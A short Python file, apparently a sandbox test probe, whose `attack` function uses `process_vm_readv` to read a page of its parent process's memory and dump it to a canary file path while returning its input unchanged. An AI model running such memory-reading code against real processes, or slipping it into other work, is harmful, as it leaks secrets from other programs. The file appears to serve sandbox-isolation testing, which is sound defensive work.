"""Reads its parent's memory by the system call for it."""

import ctypes
import os


def attack(array):
    buffer = ctypes.create_string_buffer(4096)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 4096)
    there = (ctypes.c_size_t * 2)(id(None), 4096)
    libc = ctypes.CDLL(None)
    if libc.process_vm_readv(os.getppid(), vector, 1, there, 1, 0) > 0:
        open("@CANARY@/memory", "wb").write(buffer.raw)
    return array
